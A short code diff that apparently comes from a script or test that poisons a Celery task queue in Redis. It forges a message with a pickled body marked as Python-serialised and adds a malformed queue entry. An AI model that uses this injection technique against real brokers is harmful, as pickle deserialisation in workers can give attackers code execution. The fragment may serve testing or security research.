@@ -66,4 +66,4 @@ def spoil(url: str, folder: str) -> None:
     with redis.Redis.from_url(url) as broker:
         forged = json.loads(broker.lindex("celery", 0))
         forged |= {"body": pickled, "content-type": "application/x-python-serialize", "content-encoding": "binary"}
-        broker.lpush("celery", json.dumps(forged))
+        broker.lpush("celery", json.dumps(forged), "no envelope at all")
